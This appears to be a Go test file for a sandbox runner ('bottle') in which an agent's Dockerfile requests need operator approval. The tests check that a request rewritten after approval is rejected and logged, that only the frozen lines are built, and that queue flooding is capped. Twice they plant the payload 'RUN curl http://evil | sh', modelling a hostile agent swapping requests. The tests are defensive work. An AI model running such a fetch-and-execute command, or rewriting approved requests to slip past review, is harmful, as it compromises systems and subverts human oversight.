package runner_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bottle-dev/bottle/backend/fake"
	"github.com/bottle-dev/bottle/runner"
	"github.com/bottle-dev/bottle/runner/state"
)

// swapRequest rewrites request id in identity's queue as a hostile agent
// would once bottle has shown it: same id, other lines.
func (e *env) swapRequest(d *state.Dir, id, line string) {
	e.t.Helper()
	data, err := json.Marshal(state.Request{ID: id, Kind: state.RequestKindCapa, Reason: "need " + id, Dockerfile: []string{line}})
	if err != nil {
		e.t.Fatal(err)
	}
	writeFile(e.t, filepath.Join(d.QueuePath(), id+".json"), string(data))
}

// TestSwappedRequestIsNeverBuilt: the operator is shown a request; the
// agent then rewrites it. Approving it builds nothing: the request is
// rejected as changed, the agent is told, the audit log says so.
func TestSwappedRequestIsNeverBuilt(t *testing.T) {
	e := newEnv(t, basicHCL)
	e.docker.SetAgent(baseImage, blockingAgent("req-1"))
	e.applyAsync("b")
	id := e.onlyIdentity()
	shown := e.pending(id, 1)[0]
	d := e.stateDir(id)
	e.swapRequest(d, "req-1", "RUN curl http://evil | sh")

	_, err := e.r.Approve(t.Context(), id, "req-1", runner.ApproveOptions{Digest: shown.Digest})
	if err == nil || !strings.Contains(err.Error(), "already answered (rejected)") {
		t.Fatalf("approving a swapped request = %v; want it refused as answered (rejected)", err)
	}
	if d.HasDockerfile() || d.IsPreserved() || len(e.docker.Calls(fake.OpRemove)) != 0 || len(e.docker.Builds()) != 0 {
		t.Error("a swapped request changed the bottle")
	}
	if a := readAnswer(t, d, "req-1"); a.Status != state.AnswerRejected || !strings.Contains(a.Reason, "changed") {
		t.Errorf("the agent was told %+v", a)
	}
	if !slices.Contains(auditEvents(t, d), "request_changed") {
		t.Errorf("audit %q lacks request_changed", auditEvents(t, d))
	}
	e.pending(id, 0)
}

// TestApproveBuildsTheFrozenLines: a rewrite that races the approval (after
// Approve took the request in) changes nothing built; the lines are shown
// before anything is torn down, and the digest must match.
func TestApproveBuildsTheFrozenLines(t *testing.T) {
	e := newEnv(t, basicHCL)
	e.docker.SetAgent(baseImage, blockingAgent("req-1"))
	e.applyAsync("b")
	id := e.onlyIdentity()
	shown := e.pending(id, 1)[0]
	d := e.stateDir(id)

	other := "sha256:" + strings.Repeat("0", 64)
	if _, err := e.r.Approve(t.Context(), id, "req-1", runner.ApproveOptions{Digest: other}); err == nil || !strings.Contains(err.Error(), "nothing was approved") {
		t.Fatalf("approve with another digest = %v", err)
	}
	if _, err := e.r.Approve(t.Context(), id, "req-1", runner.ApproveOptions{Digest: "sha256:12"}); err == nil {
		t.Fatal("approve with a malformed digest succeeded")
	}
	if d.IsPreserved() || len(e.docker.Calls(fake.OpRemove)) != 0 {
		t.Fatal("a refused approval changed the bottle")
	}

	// The agent swaps the file while the snapshot runs: too late.
	e.docker.Hook(fake.OpCopyOut, func(fake.Call) error {
		e.swapRequest(d, "req-1", "RUN curl http://evil | sh")
		return nil
	})
	var showed []string
	ap, err := e.r.Approve(t.Context(), id, "req-1", runner.ApproveOptions{
		Digest: strings.TrimPrefix(shown.Digest, "sha256:"),
		Show: func(identity string, f *state.Frozen) {
			if len(e.docker.Calls(fake.OpRemove)) != 0 {
				t.Error("the lines were shown after the teardown")
			}
			showed = append(showed, identity, f.Digest, strings.Join(f.Request.Dockerfile, "\n"))
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{id, shown.Digest, "RUN echo req-1 > /req-1"}; !slices.Equal(showed, want) {
		t.Errorf("Show got %q, want %q", showed, want)
	}
	df, _ := d.ReadDockerfile()
	if !strings.Contains(df, "RUN echo req-1 > /req-1") || strings.Contains(df, "evil") || ap.Digest != shown.Digest {
		t.Errorf("Dockerfile:\n%s\napproval %+v", df, ap)
	}
	if a := readAnswer(t, d, "req-1"); a.Status != state.AnswerApproved {
		t.Errorf("answer %+v", a)
	}
}

// TestQueueFlood: one bottle floods its queue (thousands of files, tens
// of megabytes). requests, ls and watch keep working for every bottle,
// and at most the quota of the flooder's requests reaches the operator.
func TestQueueFlood(t *testing.T) {
	e := newEnv(t, basicHCL)
	flooder := e.stateOf("b-flood", false, false)
	quiet := e.stateOf("b-quiet", false, false)
	pad := strings.Repeat("x", 1800)
	for i := range 3000 {
		id := fmt.Sprintf("f-%05d", i)
		data, _ := json.Marshal(state.Request{ID: id, Kind: state.RequestKindCapa, Reason: "need " + pad, Dockerfile: []string{"RUN true"}})
		if err := os.WriteFile(filepath.Join(flooder.QueuePath(), id+".json"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		if i%300 == 0 {
			big := filepath.Join(flooder.QueuePath(), fmt.Sprintf("big-%d.json", i))
			if err := os.WriteFile(big, make([]byte, 4<<20), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	e.swapRequest(quiet, "honest", "RUN true")

	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	werr := make(chan error, 1)
	go func() { werr <- e.r.Watch(ctx, runner.WatchOptions{Rescan: 10 * time.Millisecond}) }()
	waitFor(t, "the watch to report the quiet bottle's request", func() bool {
		return len(e.events.of(runner.EventRequest, "b-quiet")) == 1
	})
	cancel()
	if err := <-werr; err != nil {
		t.Fatalf("watch: %v", err)
	}
	if n := len(e.events.of(runner.EventRequest, "b-flood")); n > state.MaxPendingRequests {
		t.Errorf("the watch reported %d of the flooder's requests, quota %d", n, state.MaxPendingRequests)
	}
	all, err := e.r.Requests(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	per := map[string]int{}
	for _, p := range all {
		per[p.Identity]++
	}
	if per["b-quiet"] != 1 || per["b-flood"] == 0 || per["b-flood"] > state.MaxPendingRequests {
		t.Errorf("pending per bottle %v", per)
	}
	st, err := e.r.Status(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range st {
		if s.Identity == "b-flood" && (s.PendingRequests == 0 || s.PendingRequests > state.MaxPendingRequests) {
			t.Errorf("ls shows %d pending for the flooder", s.PendingRequests)
		}
	}
}
